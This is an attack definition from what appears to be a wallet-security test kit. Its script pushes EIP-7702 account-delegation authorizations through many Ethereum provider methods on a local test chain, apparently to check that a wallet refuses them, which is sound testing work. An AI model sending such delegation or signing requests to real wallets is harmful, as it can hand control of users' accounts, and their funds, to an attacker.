import type { Attack } from './kit/attack.ts'

export default {
  family: 'methods',
  how: "Hands the account's code to another (EIP-7702) by every carrier: a transaction's list, batches, raw transactions, sessions, methods of its own.",
  script: `
    const { account, hex } = attack
    const authorization = { chainId: '0x7a69', address: account, nonce: '0x0', yParity: '0x0', r: hex, s: hex }
    const carried = { from: account, to: account, authorizationList: [authorization] }
    const call = { to: account, data: hex, authorizationList: [authorization] }
    const batch = { version: '2.0.0', from: account, chainId: '0x7a69', atomicRequired: true, calls: [call], capabilities: { eip7702Auth: authorization } }
    for (const [method, params] of [
      ['eth_sendTransaction', [carried]],
      ['eth_sendTransaction', [{ ...carried, type: '0x4' }]],
      ['eth_signTransaction', [{ ...carried, type: '0x04' }]],
      ['eth_sendRawTransaction', ['0x04' + hex.slice(2)]],
      ['wallet_sendCalls', [batch]],
      ['wallet_prepareCalls', [batch]],
      ['wallet_upgradeAccount', [{ account, authorization }]],
      ['eth_signAuthorization', [authorization]],
      ['wallet_signAuthorization', [authorization]],
      ['wallet_invokeMethod', { scope: 'eip155:31337', request: { method: 'eth_sendTransaction', params: [carried] } }],
      ['eth_sign', [account, hex]],
      ['personal_sign', ['0x05' + hex.slice(2), account]],
    ]) ethereum.request({ method, params }).catch(() => {})
    await attack.sleep(300)
  `,
} satisfies Attack
